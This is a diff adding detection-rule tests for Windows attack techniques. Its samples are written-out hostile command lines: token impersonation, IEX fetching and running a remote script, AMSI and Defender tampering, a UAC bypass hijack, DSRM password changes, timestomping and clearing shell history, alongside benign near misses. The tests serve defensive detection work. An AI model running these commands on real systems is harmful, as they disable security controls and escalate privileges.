@@ -561,6 +561,76 @@ describe('built-in Windows rules', () => {
     expect(titlesOf(proc(9, `${S32}cmd.exe`, 'cmd.exe /c type C:\\Windows\\Panther\\setupact.log'))).not.toContain(CRED);
   });
 
+  it('token tools, DSRM passwords, file times, attributes and streams, shell history, AMSI, .NET profilers; near misses are not', () => {
+    const PS = 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe';
+    const S32 = 'C:\\Windows\\System32\\';
+    const POTATO = 'Potato-Style COM Impersonation Tool Arguments';
+    expect(hits([proc(1, `${S32}cmd.exe`, 'cmd /c C:\\Users\\u\\x.exe -l 7777 -t * -p C:\\Windows\\system32\\notepad.exe -c {F7FD3FD6-9994-452D-8DA7-9A8FD87AEEF4}')]).get(POTATO)).toEqual({ level: 'high', tactics: ['privilege-escalation'] });
+    expect(titlesOf(proc(2, `${S32}cmd.exe`, 'cmd /c tool.exe -l 80 -p 8080 -c {config}'))).not.toContain(POTATO);
+    const NSUDO = 'Program Started As TrustedInstaller Or SYSTEM With All Privileges';
+    expect(hits([proc(3, PS, 'powershell.exe & {Start-Process C:\\Tools\\launcher.exe -Argument "-U:T -P:E cmd"}')]).get(NSUDO)).toEqual({ level: 'medium', tactics: ['privilege-escalation'] });
+    expect(titlesOf(proc(4, PS, 'powershell.exe & {Start-Process C:\\Tools\\launcher.exe -Argument "-U:C -P:D cmd"}'))).not.toContain(NSUDO);
+    const TOKEN = 'Token Manipulation Or Parent Process Spoofing PowerShell Cmdlets';
+    expect(hits([proc(5, PS, "powershell.exe & {IEX (IWR 'https://example.org/Get-System.ps1'); Get-System -Technique Token}")]).get(TOKEN)).toEqual({ level: 'high', tactics: ['privilege-escalation'] });
+    expect(titlesOf(proc(6, PS, "powershell.exe -c Start-ATHProcessUnderSpecificParent -ParentId 4242"))).toContain(TOKEN);
+    expect(titlesOf(proc(7, PS, 'powershell.exe -c Get-SystemInfo | Out-File x.txt'))).not.toContain(TOKEN);
+    const block = (t: number, text: string): ReturnType<typeof makeEvent> => win(t, 'Microsoft-Windows-PowerShell/Operational', 'Microsoft-Windows-PowerShell', 4104, { ScriptBlockText: text });
+    expect(titlesOf(block(8, 'Get-WinlogonTokenSystem'))).toContain(`${TOKEN} (script block 4104)`);
+    const DSRM = 'DSRM Administrator Password Set With ntdsutil';
+    expect(hits([proc(9, `${S32}ntdsutil.exe`, 'ntdsutil "set dsrm password" "sync from domain account admin" "q" "q"')]).get(DSRM)).toEqual({ level: 'medium', tactics: ['persistence', 'privilege-escalation'] });
+    expect(titlesOf(proc(10, `${S32}ntdsutil.exe`, 'ntdsutil "ac i ntds" "ifm" "create full c:\\temp" q q'))).not.toContain(DSRM);
+    const TIMES = 'File Times Set From A PowerShell Command Line';
+    expect(hits([proc(11, PS, 'powershell.exe & {Get-ChildItem C:\\x.txt | % { $_.CreationTime = "01/01/1970 00:00:00" }}')]).get(TIMES)).toEqual({ level: 'low', tactics: ['stealth'] });
+    expect(titlesOf(proc(12, PS, 'powershell.exe -c (Get-Item C:\\x.txt).CreationTime'))).not.toContain(TIMES);
+    const HIDDEN = 'File Made Hidden Or System From A PowerShell Command Line';
+    expect(hits([proc(13, PS, "powershell.exe & {$file = Get-Item $env:temp\\data.txt -Force; $file.attributes='Hidden'}")]).get(HIDDEN)).toEqual({ level: 'low', tactics: ['stealth'] });
+    expect(titlesOf(proc(14, PS, "powershell.exe & {$f = Get-Item x.txt; $f.Attributes = [System.IO.FileAttributes]::Normal}"))).not.toContain(HIDDEN);
+    const ADS = 'Alternate Data Stream Written From A Command Line';
+    expect(hits([proc(15, PS, 'powershell.exe & {Set-Content -Path $env:TEMP\\a.txt -Stream hidden.txt -Value x}')]).get(ADS)).toEqual({ level: 'low', tactics: ['stealth'] });
+    expect(titlesOf(proc(16, `${S32}cmd.exe`, 'cmd.exe /c type C:\\Windows\\system32\\cmd.exe > "C:\\Users\\Public\\desktop.ini:desktop.ini"'))).toContain(ADS);
+    expect(titlesOf(proc(17, `${S32}cmd.exe`, 'cmd.exe /c echo x > C:\\Temp\\out.txt'))).not.toContain(ADS);
+    expect(titlesOf(proc(18, PS, 'powershell.exe -c Get-Content x.txt -Stream Zone.Identifier'))).not.toContain(ADS);
+    const HIST = 'PowerShell Command History Deleted Or Turned Off';
+    expect(hits([proc(19, PS, 'powershell.exe & {Remove-Item (Get-PSReadlineOption).HistorySavePath}')]).get(HIST)).toEqual({ level: 'medium', tactics: ['stealth'] });
+    expect(titlesOf(proc(20, PS, 'powershell.exe & {Set-PSReadLineOption -AddToHistoryHandler { return $false }}'))).toContain(HIST);
+    expect(titlesOf(proc(21, PS, 'powershell.exe -c Get-Content (Get-PSReadlineOption).HistorySavePath'))).not.toContain(HIST);
+    const AMSI = 'AMSI Provider Removed Or AMSI COM Server Redirected From The Command Line';
+    expect(hits([proc(22, PS, 'powershell.exe & {Remove-Item -Path "HKLM:\\SOFTWARE\\Microsoft\\AMSI\\Providers\\{2781761E-28E0-4109-99FE-B9D127C57AFE}" -Recurse}')]).get(AMSI)).toEqual({ level: 'high', tactics: ['defense-impairment'] });
+    expect(titlesOf(proc(23, `${S32}reg.exe`, 'REG ADD HKCU\\Software\\Classes\\CLSID\\{fdb00e52-a214-4aa1-8fba-4357bb0072ec}\\InProcServer32 /ve /t REG_SZ /d C:\\x.dll /f'))).toContain(AMSI);
+    expect(titlesOf(proc(24, `${S32}reg.exe`, 'reg query HKLM\\SOFTWARE\\Microsoft\\AMSI\\Providers'))).not.toContain(AMSI);
+    const COR = '.NET Profiler Set From A Command Line (COR_PROFILER)';
+    expect(hits([proc(25, PS, "powershell.exe & {$env:COR_ENABLE_PROFILING = 1; $env:COR_PROFILER = '{09108e71-974c-4010-89cb-acf471ae9e2c}'; powershell -c 'Start-Sleep 1'}")]).get(COR)).toEqual({ level: 'medium', tactics: ['persistence', 'privilege-escalation', 'stealth'] });
+    expect(titlesOf(proc(26, PS, 'powershell.exe -c Get-ChildItem env:'))).not.toContain(COR);
+  });
+
+  it('Defender tasks, UAC handler hijacks, root certificates, IIS logging, forfiles, hidden windows, registry redirections; near misses are not', () => {
+    const PS = 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe';
+    const S32 = 'C:\\Windows\\System32\\';
+    const TASKS = 'Microsoft Defender Scheduled Tasks Deleted Or Disabled';
+    expect(hits([proc(1, `${S32}schtasks.exe`, 'schtasks  /delete /tn "\\Microsoft\\Windows\\Windows Defender\\Windows Defender Scheduled Scan" /f')]).get(TASKS)).toEqual({ level: 'high', tactics: ['defense-impairment'] });
+    expect(titlesOf(proc(2, `${S32}schtasks.exe`, 'schtasks  /query /xml /tn "\\Microsoft\\Windows\\Windows Defender\\Windows Defender Cleanup"'))).not.toContain(TASKS);
+    const UAC = 'Auto-Elevating Handler Hijacked From The Command Line (UAC Bypass)';
+    expect(hits([proc(3, PS, 'powershell.exe & {New-Item "HKCU:\\software\\classes\\mscfile\\shell\\open\\command" -Force; Set-ItemProperty "HKCU:\\software\\classes\\mscfile\\shell\\open\\command" -Name "(default)" -Value cmd.exe}')]).get(UAC)).toEqual({ level: 'high', tactics: ['privilege-escalation', 'stealth'] });
+    expect(titlesOf(proc(4, `${S32}reg.exe`, 'reg query HKCU\\Software\\Classes\\ms-settings\\shell\\open\\command'))).not.toContain(UAC);
+    const ROOT = 'Root Certificate Added From A Command Line';
+    expect(hits([proc(5, PS, 'powershell.exe & {$c = Import-Certificate -FilePath ca.cer -CertStoreLocation Cert:\\LocalMachine\\My; Move-Item -Path $c.PSPath -Destination "Cert:\\LocalMachine\\Root"}')]).get(ROOT)).toEqual({ level: 'medium', tactics: ['defense-impairment'] });
+    expect(titlesOf(proc(6, PS, 'powershell.exe -c Get-ChildItem Cert:\\LocalMachine\\Root'))).not.toContain(ROOT);
+    const IIS = 'IIS HTTP Logging Turned Off From A Command Line';
+    expect(hits([proc(7, `${S32}inetsrv\\appcmd.exe`, 'appcmd.exe set config "Default Web Site" /section:httplogging /dontLog:true')]).get(IIS)).toEqual({ level: 'high', tactics: ['defense-impairment'] });
+    expect(titlesOf(proc(8, `${S32}inetsrv\\appcmd.exe`, 'appcmd.exe set config "Default Web Site" /section:httplogging /dontLog:false'))).not.toContain(IIS);
+    const FOR = 'Program Started Through forfiles';
+    expect(hits([proc(9, `${S32}forfiles.exe`, 'forfiles  /p c:\\windows\\system32 /m notepad.exe /c calc.exe')]).get(FOR)).toEqual({ level: 'low', tactics: ['stealth'] });
+    expect(titlesOf(proc(10, `${S32}forfiles.exe`, 'forfiles /p C:\\Logs /m *.log /d -30'))).not.toContain(FOR);
+    const HID = 'Process Started With A Hidden Window From PowerShell';
+    expect(hits([proc(11, PS, 'powershell.exe & {Start-Process powershell.exe -WindowStyle hidden calc.exe}')]).get(HID)).toEqual({ level: 'low', tactics: ['stealth'] });
+    expect(titlesOf(proc(12, PS, 'powershell.exe & {Start-Process notepad.exe -WindowStyle Maximized}'))).not.toContain(HID);
+    const AUTO = 'Auto-Start Registry Location Written From The Command Line';
+    const auto = hits([proc(13, `${S32}reg.exe`, 'reg  add "HKLM\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Event Viewer" /v MicrosoftRedirectionProgram /t REG_EXPAND_SZ /d "C:\\x.exe" /f')]).get(AUTO);
+    expect(auto?.level).toBe('medium');
+    expect(titlesOf(proc(14, `${S32}reg.exe`, 'reg  add "HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\App Paths\\msedge.exe" /t REG_SZ /d C:\\x.exe /f'))).toContain(AUTO);
+    expect(titlesOf(proc(15, `${S32}reg.exe`, 'reg query "HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\App Paths\\msedge.exe"'))).not.toContain(AUTO);
+  });
+
   const crate = path.join(corpora, 'evtx', 'evtx-crate');
   it.skipIf(!existsSync(crate))('the benign captures give no high or critical built-in hit', () => {
     const files = readdirSync(crate).filter((f) => f.endsWith('.evtx'));
